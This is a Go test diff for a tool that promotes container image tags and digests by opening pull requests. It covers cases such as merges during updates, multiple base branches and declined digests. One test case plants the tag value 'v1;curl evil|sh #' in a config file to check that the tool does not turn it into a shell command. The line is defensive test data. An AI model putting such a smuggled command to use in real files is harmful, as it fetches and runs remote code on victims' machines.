@@ -181,6 +181,21 @@ func (w *world) must(sha string, err error) string {
 	return sha
 }
 
+// merges has a person merge pull request 1 right after its branch has moved.
+type merges struct {
+	scm.Repository
+	w    *world
+	done bool
+}
+
+func (m *merges) Commit(ctx context.Context, d scm.Draft) (scm.Commit, error) {
+	if !m.done {
+		m.done = true
+		m.w.must(m.w.store.MergePullRequest(1, "squash"))
+	}
+	return m.Repository.Commit(ctx, d)
+}
+
 // TestTable goes down the table of outcomes row by row, on every forge.
 func TestTable(t *testing.T) {
 	rows := map[string]func(w *world){
@@ -433,6 +448,87 @@ func TestTable(t *testing.T) {
 				w.Errorf("the text is of another digest: %v\n%s", err, p.Body)
 			}
 			w.want(promote.Unchanged, "todo-api:v3")
+		},
+		"digest alone, then the tag of the same digest": func(w *world) {
+			v2 := w.push("todo-api:v2", 2)
+			w.want(promote.Opened, "todo-api@"+v2)
+			w.want(promote.Unchanged, "todo-api:v2")
+			w.want(promote.Unchanged, "todo-api@"+v2)
+		},
+		"an older job over a base that pins a tag alone": func(w *world) {
+			w.push("todo-api:v5", 5)
+			w.push("todo-api:v2", 2)
+			w.replace("main", file, "newTag: v1\n  digest: "+digestIn(w.at("main")), "newTag: v5")
+			w.want(promote.Outdated, "todo-api:v2")
+			w.want(promote.Opened, "todo-api:v5")
+		},
+		"merged while it is updated": func(w *world) {
+			v2 := w.push("todo-api:v2", 2)
+			w.want(promote.Opened, "todo-api:v2")
+			v3 := w.push("todo-api:v3", 3)
+			w.repo = &merges{Repository: w.repo, w: w}
+			w.want(promote.Opened, "todo-api:v3")
+			w.wantPulls("1 merged, 2 open")
+			p, err := w.store.Pull(1)
+			if err != nil || strings.Contains(p.Body, v3) || !strings.Contains(p.Body, v2) || strings.Contains(p.Title, "v3") {
+				w.Errorf("the merged pull request says something else now: %v %s\n%s", err, p.Title, p.Body)
+			}
+		},
+		"two base branches": func(w *world) {
+			w.push("todo-api:v2", 2)
+			if err := w.store.CreateBranch("release", w.tip("main")); err != nil {
+				w.Fatal(err)
+			}
+			w.want(promote.Opened, "todo-api:v2", func(q *promote.Request) { q.Base = "release" })
+			w.wantError(promote.ErrOtherTarget, "on release", "todo-api:v2")
+		},
+		"the base is the head branch": func(w *world) {
+			w.push("todo-api:v2", 2)
+			w.want(promote.Opened, "todo-api:v2")
+			head := w.head()
+			w.push("todo-api:v3", 3)
+			w.wantError(promote.ErrMisused, "own head branch", "todo-api:v3", func(q *promote.Request) { q.Base = branch })
+			if w.head() != head {
+				w.Error("the branch moved")
+			}
+		},
+		"a no is kept while another digest is proposed": func(w *world) {
+			w.push("todo-api:v2", 2)
+			w.push("todo-api:v3", 3)
+			w.want(promote.Opened, "todo-api:v3")
+			if err := w.store.ClosePullRequest(1, "mei"); err != nil {
+				w.Fatal(err)
+			}
+			w.want(promote.Opened, "todo-api:v2")
+			w.want(promote.Declined, "todo-api:v3")
+			if strings.Contains(w.at(branch), "v3") {
+				w.Error("the declined digest is proposed")
+			}
+		},
+		"a group's older half does not undo the base": func(w *world) {
+			w.push("todo-api:v2", 2)
+			w.push("todo-web:v2", 2)
+			w.want(promote.Opened, "todo-api:v2 todo-web:v2")
+			v5 := w.push("todo-api:v5", 5)
+			w.replace("main", file, "newTag: v1\n  digest: "+digestIn(w.at("main")), "newTag: v5\n  digest: "+v5)
+			w.push("todo-web:v3", 3)
+			if w.fixed {
+				w.wantError(scm.ErrUnsupported, "", "todo-web:v3")
+				return
+			}
+			res := w.want(promote.Updated, "todo-web:v3")
+			if !strings.Contains(w.at(branch), v5) || len(res.Warnings) == 0 {
+				w.Errorf("the base is undone: %v\n%s", res.Warnings, w.at(branch))
+			}
+		},
+		"a tag in the file that is no tag": func(w *world) {
+			w.push("todo-api:v2", 2)
+			w.replace("main", file, "newTag: v1\n  digest", "newTag: \"v1;curl evil|sh #\"\n  digest")
+			res := w.want(promote.Opened, "todo-api:v2")
+			if strings.Contains(res.Body, "```sh") {
+				w.Errorf("a command with it:\n%s", res.Body)
+			}
+			w.want(promote.Unchanged, "todo-api:v2")
 		},
 		"auto-merge is cleared before another digest is there": func(w *world) {
 			w.push("todo-api:v2", 2)
